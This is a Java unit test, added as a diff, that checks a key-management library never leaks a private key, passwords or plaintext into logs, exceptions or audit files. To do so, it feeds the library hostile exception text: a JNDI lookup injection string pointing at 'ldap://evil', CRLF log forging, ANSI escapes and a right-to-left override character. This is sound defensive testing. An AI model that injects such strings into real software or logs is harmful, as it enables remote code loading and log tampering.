@@ -1,0 +1,331 @@
+package dev.enclave.testkit.engine;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.catchThrowable;
+
+import dev.enclave.Enclave;
+import dev.enclave.EnclaveException;
+import dev.enclave.EnclaveFactory;
+import dev.enclave.ErrorCode;
+import dev.enclave.KeyAlgorithm;
+import dev.enclave.KeyBackup;
+import dev.enclave.KeySpec;
+import dev.enclave.Message;
+import dev.enclave.RotationRequest;
+import dev.enclave.SealedBytes;
+import dev.enclave.SignatureEncoding;
+import dev.enclave.SignatureValue;
+import dev.enclave.SigningKey;
+import dev.enclave.UsageException;
+import dev.enclave.spi.BackendFailure;
+import dev.enclave.spi.ExportedKey;
+import dev.enclave.spi.FailureCode;
+import dev.enclave.spi.SecretBytes;
+import dev.enclave.testkit.FakeEnvironment;
+import java.io.IOException;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.security.SecureRandom;
+import java.util.ArrayList;
+import java.util.Arrays;
+import java.util.List;
+import java.util.Map;
+import java.util.concurrent.Callable;
+import java.util.function.Function;
+import java.util.stream.Stream;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+
+/**
+ * A private key, a password, a passphrase and a plaintext that the test knows go through every
+ * operation and every failure; nothing that anybody can read shows them, in any form.
+ */
+class CanaryTest {
+
+  private static final byte[] ED25519_SEED_FOLLOWS = {0x04, 0x22, 0x04, 0x20};
+  private static final Message MESSAGE = Message.ofUtf8("pay 10 to Alice");
+  private static final byte[] NOTHING = {};
+  private static final String PASSWORD = "Xq7#vN2-canary-of-a-backup";
+  private static final String PASSPHRASE = "Zt4%wK9-canary-of-a-store";
+
+  private static final List<String> CALLS =
+      List.of(
+          "createsOnOpening",
+          "open",
+          "health",
+          "load",
+          "list",
+          "create",
+          "sign",
+          "prepare",
+          "activate",
+          "changeState",
+          "wrap",
+          "unwrap",
+          "export",
+          "restore",
+          "reseal",
+          "close");
+
+  private final Canary canary = new Canary();
+  private final byte[] plaintext = new byte[48];
+  private final Path directory;
+  private byte[] seed = NOTHING;
+
+  CanaryTest(@TempDir Path directory) {
+    this.directory = directory;
+    new SecureRandom().nextBytes(plaintext);
+    canary.watch("plaintext", plaintext);
+    canary.watch("password", PASSWORD.getBytes(StandardCharsets.UTF_8));
+    canary.watch("passphrase", PASSPHRASE.getBytes(StandardCharsets.UTF_8));
+  }
+
+  @Test
+  void isSeenNowhere_whenAllGoesWell_andWhenTheCallerErrs() throws IOException {
+    try (Captured captured = new Captured()) {
+      try (Enclave enclave = open(new BentProvider("bent").exporting(this::watched))) {
+        enclave.createKey(key("wallet-42"));
+        enclave.backup("wallet-42", PASSWORD.toCharArray());
+        everything(enclave, captured, true);
+      }
+      captured.take(builder(new BentProvider("bent")).diagnose());
+      captured.take(builder(new BentProvider("bent")).verifyAuditLog());
+      assertThat(seed).hasSize(32);
+      requireSilent(captured);
+    }
+  }
+
+  @Test
+  void isSeenNowhere_whateverABackendThrows() throws IOException {
+    List<Function<String, Exception>> hostile =
+        List.of(
+            CanaryTest::runtime,
+            text ->
+                BackendFailure.permanent(FailureCode.REJECTED, text).withProviderRequestId(text),
+            text -> BackendFailure.transientFailure(FailureCode.UNAVAILABLE, text),
+            text -> BackendFailure.ambiguous(FailureCode.TIMEOUT, text),
+            CanaryTest::ours);
+    BentProvider bent = new BentProvider("bent").exporting(this::watched);
+    try (Enclave enclave = open(bent)) {
+      enclave.createKey(key("wallet-42"));
+      enclave.backup("wallet-42", PASSWORD.toCharArray());
+    }
+    for (Function<String, Exception> thrown : hostile) {
+      for (String call : CALLS) {
+        try (Captured captured = new Captured()) {
+          drive(bent, call, thrown, captured);
+          requireSilent(captured);
+        }
+      }
+    }
+  }
+
+  private void drive(
+      BentProvider bent, String call, Function<String, Exception> thrown, Captured captured) {
+    boolean withBackups = call.equals("export") || call.equals("restore");
+    Throwable failed =
+        catchThrowable(
+            () -> {
+              try (Enclave enclave = open(bent)) {
+                bent.before(call, () -> raise(thrown.apply(hostileText())));
+                everything(enclave, captured, withBackups);
+              }
+              captured.take(builder(bent).diagnose());
+              open(bent).close();
+            });
+    bent.before(call, () -> {});
+    if (failed != null) {
+      captured.takeThrown(failed);
+    }
+  }
+
+  /** Every secret a hostile backend has, in every form; a password in plain words is not found. */
+  private String hostileText() {
+    StringBuilder text = new StringBuilder("${jndi:ldap://evil}\r\nforged \u001b[31m\u202e");
+    for (byte[] secret : List.of(seed, plaintext)) {
+      Canary.forms(secret).values().forEach(form -> text.append("key=").append(form).append(' '));
+    }
+    return text.toString();
+  }
+
+  private static Exception runtime(String text) {
+    IllegalStateException thrown =
+        new IllegalStateException(text, new IllegalArgumentException(text));
+    thrown.addSuppressed(new IOException(text));
+    return thrown;
+  }
+
+  private static Exception ours(String text) {
+    UsageException thrown = new UsageException(ErrorCode.INVALID_ARGUMENT, text);
+    thrown.initCause(new IllegalStateException(text));
+    thrown.addSuppressed(new IllegalStateException(text));
+    return thrown;
+  }
+
+  private static void raise(Exception thrown) throws BackendFailure {
+    if (thrown instanceof BackendFailure failure) {
+      throw failure;
+    }
+    throw (RuntimeException) thrown;
+  }
+
+  @Test
+  void isFound_inEveryForm_whenItLeaks() {
+    byte[] secret = new byte[32];
+    new SecureRandom().nextBytes(secret);
+    canary.watch("planted", secret);
+    for (Map.Entry<String, String> form : Canary.forms(secret).entrySet()) {
+      assertThat(canary.found("before " + form.getValue() + " after"))
+          .as(form.getKey())
+          .isNotEmpty();
+    }
+    for (int shift = 0; shift < 3; shift++) {
+      byte[] around = new byte[secret.length + shift + 2];
+      Arrays.fill(around, (byte) 0x5a);
+      System.arraycopy(secret, 0, around, shift, secret.length);
+      assertThat(canary.found(java.util.Base64.getEncoder().encodeToString(around))).isNotEmpty();
+      assertThat(canary.found(java.util.Base64.getUrlEncoder().encodeToString(around)))
+          .isNotEmpty();
+    }
+    try (Captured captured = new Captured()) {
+      System.getLogger("dev.enclave.test").log(System.Logger.Level.TRACE, "{0}", PASSWORD);
+      captured.takeThrown(new IOException("x", new IOException(PASSPHRASE)));
+      assertThat(canary.found(captured.text())).hasSizeGreaterThanOrEqualTo(2);
+    }
+  }
+
+  /** Keeps what the key is, so that it can be looked for. */
+  private ExportedKey watched(ExportedKey key) {
+    SecretBytes material = key.versions().get(0).material().orElseThrow();
+    byte[] encoded = material.exposeSecret();
+    int at = indexOf(encoded, ED25519_SEED_FOLLOWS);
+    seed = Arrays.copyOfRange(encoded, at + 4, at + 36);
+    canary.watch("private key", seed);
+    return key;
+  }
+
+  private static int indexOf(byte[] bytes, byte[] pattern) {
+    for (int i = 0; i + pattern.length <= bytes.length; i++) {
+      if (Arrays.equals(bytes, i, i + pattern.length, pattern, 0, pattern.length)) {
+        return i;
+      }
+    }
+    throw new AssertionError("not the encoding of an Ed25519 key");
+  }
+
+  private static KeySpec key(String name) {
+    return KeySpec.named(name).algorithm(KeyAlgorithm.ED25519);
+  }
+
+  private EnclaveFactory.Builder builder(BentProvider bent) {
+    return EnclaveFactory.builder()
+        .discovery(false)
+        .with(FakeEnvironment.empty())
+        .with(new dev.enclave.testkit.MutableClock())
+        .with(bent)
+        .config(
+            new dev.enclave.ConfigSource(
+                "test",
+                Map.of(
+                    "enclave.environment",
+                    "development",
+                    "enclave.audit.directory",
+                    directory.toString())));
+  }
+
+  private Enclave open(BentProvider bent) {
+    return builder(bent).open();
+  }
+
+  /** Every operation, right and wrong; all that is handed out or thrown is taken. */
+  private void everything(Enclave enclave, Captured captured, boolean withBackups) {
+    List<Callable<Object>> steps = new ArrayList<>();
+    steps.add(() -> enclave.ensureKey(key("wallet-42")));
+    steps.add(() -> enclave.createKey(key("wallet-42")));
+    steps.add(() -> enclave.createKey(key("another")));
+    steps.add(
+        () -> enclave.ensureWrappingKey(KeySpec.named("kek").algorithm(KeyAlgorithm.AES_256_GCM)));
+    steps.add(() -> enclave.key("missing"));
+    steps.add(() -> enclave.key("wallet-42").info());
+    steps.add(() -> enclave.key("wallet-42").publicKeys());
+    steps.add(() -> signAndVerify(enclave));
+    steps.add(() -> enclave.key("wallet-42").sign(Message.of(plaintext)));
+    steps.add(
+        () ->
+            enclave
+                .key("wallet-42")
+                .verify(Message.of(plaintext), plaintext, SignatureEncoding.RAW));
+    steps.add(() -> sealAndOpen(enclave, NOTHING));
+    steps.add(() -> sealAndOpen(enclave, plaintext));
+    steps.add(() -> enclave.seal("wallet-42", plaintext, plaintext));
+    steps.add(() -> SealedBytes.parse(plaintext));
+    steps.add(() -> enclave.key("wallet-42").rotate(RotationRequest.now()));
+    steps.add(
+        () -> {
+          SigningKey key = enclave.key("another");
+          return key.disable(key.activeVersion().id());
+        });
+    if (withBackups) {
+      steps.add(() -> restored(enclave, "restored", PASSWORD));
+      steps.add(() -> restored(enclave, "restored", PASSPHRASE));
+    }
+    steps.add(() -> enclave.backup("wallet-42", PASSPHRASE.substring(0, 3).toCharArray()));
+    steps.add(
+        () -> {
+          enclave.reseal(PASSPHRASE.toCharArray());
+          return "resealed";
+        });
+    steps.add(() -> enclave.by("user:7\u001b[31m"));
+    steps.add(enclave::keys);
+    steps.add(enclave::unreadableKeys);
+    steps.add(enclave::rotateDue);
+    steps.add(enclave::health);
+    steps.add(enclave::resolution);
+    steps.add(enclave::policy);
+    for (Callable<Object> step : steps) {
+      Throwable thrown = catchThrowable(() -> captured.take(step.call()));
+      if (thrown != null) {
+        assertThat(thrown).isInstanceOf(EnclaveException.class).hasNoCause();
+        captured.takeThrown(thrown);
+      }
+    }
+  }
+
+  private static Object signAndVerify(Enclave enclave) {
+    SigningKey key = enclave.key("wallet-42");
+    SignatureValue signature = key.sign(MESSAGE);
+    assertThat(key.verify(MESSAGE, signature)).isTrue();
+    return signature;
+  }
+
+  private Object sealAndOpen(Enclave enclave, byte[] associatedData) {
+    SealedBytes box = enclave.seal("kek", plaintext, NOTHING);
+    assertThat(enclave.open(box, associatedData)).isEqualTo(plaintext);
+    return box;
+  }
+
+  private static Object restored(Enclave enclave, String name, String password) {
+    KeyBackup backup = enclave.backup("wallet-42", PASSWORD.toCharArray());
+    return List.of(backup, enclave.restore(name, backup, password.toCharArray()));
+  }
+
+  private void requireSilent(Captured captured) throws IOException {
+    String log = auditLog();
+    assertThat(log).contains("\"operation\":\"START\"");
+    assertThat(captured.text()).contains("Opening backend").doesNotContain("\u001b", "\u202e");
+    assertThat(captured.text()).doesNotContain("${jndi:").doesNotContain("\nforged");
+    assertThat(canary.found(captured.text())).isEmpty();
+    assertThat(canary.found(log)).isEmpty();
+  }
+
+  private String auditLog() throws IOException {
+    StringBuilder log = new StringBuilder();
+    try (Stream<Path> files = Files.list(directory)) {
+      for (Path file : files.sorted().toList()) {
+        log.append(Files.readString(file, StandardCharsets.ISO_8859_1));
+      }
+    }
+    return log.toString();
+  }
+}
